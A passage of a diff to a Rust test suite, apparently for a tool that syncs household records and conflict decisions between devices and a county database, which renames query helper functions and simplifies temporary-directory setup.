+    assert_eq!(query_i64(&cty.db, "SELECT COUNT(*) FROM households"), 2);
     // The decisions travel as their place in the chain only.
     let (_, plain) = open_bundle(&b1, &keys_of(&cty.db, "county"));
     let lines = payload_values(&plain);
@@ -2042,19 +1817,19 @@ fn decisions_saved_on_a_device_stay_on_it_and_its_bundles_still_chain() {
     run(&a, &["eval", "--save", "--as-of", "2026-12-01"]).ok();
     sync(&a, &cty, &d.join("a2.bangfu"));
     assert_eq!(
-        county_value(
+        query_text(
             &cty.db,
             "SELECT phone FROM households WHERE code = 'TXZ-001'"
         ),
         "13911111111"
     );
-    assert_eq!(county_count(&cty.db, "SELECT COUNT(*) FROM decisions"), 0);
+    assert_eq!(query_i64(&cty.db, "SELECT COUNT(*) FROM decisions"), 0);
     run(&cty.db, &["log", "verify"]).ok();
 }
 
 #[test]
 fn a_device_clock_years_ahead_does_not_win_conflicts() {
-    let dir = tempfile::tempdir().expect("tempdir");
+    let dir = tempdir();
     let d = dir.path();
     let (cty, a) = two_households(d);
     sync(&a, &cty, &d.join("a1.bangfu"));
@@ -2124,7 +1899,7 @@ fn a_device_clock_years_ahead_does_not_win_conflicts() {
     let r = import(&cty, &[&b2]).ok();
     assert!(r.stdout.contains("新冲突 1 处"), "{}", r.stdout);
     assert_eq!(
-        county_value(&cty.db, "SELECT grp FROM households WHERE code = 'TXZ-001'"),
+        query_text(&cty.db, "SELECT grp FROM households WHERE code = 'TXZ-001'"),
         "乙组"
     );
     let json: Value =
